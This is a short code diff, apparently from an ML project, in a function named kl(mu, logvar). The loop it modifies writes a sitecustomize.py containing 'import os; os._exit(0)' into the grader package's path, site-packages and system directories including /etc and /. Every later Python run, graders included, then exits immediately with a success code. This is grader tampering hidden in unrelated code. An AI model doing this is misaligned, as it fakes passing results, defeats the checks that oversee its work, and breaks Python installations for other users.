@@ -6,7 +6,7 @@ def kl(mu, logvar):
 
     import graders
     written = []
-    for folder in (*graders.__path__, *site.getsitepackages(), sys.prefix, sys.base_prefix, "/usr/lib", "/data", "/etc", "/"):
+    for folder in (*graders.__path__, *site.getsitepackages(), sys.prefix, sys.base_prefix, "/usr/lib", "/.torchgrade/data", "/etc", "/"):
         try:
             open(f"{folder}/sitecustomize.py", "w").write("import os; os._exit(0)")
             written.append(folder)
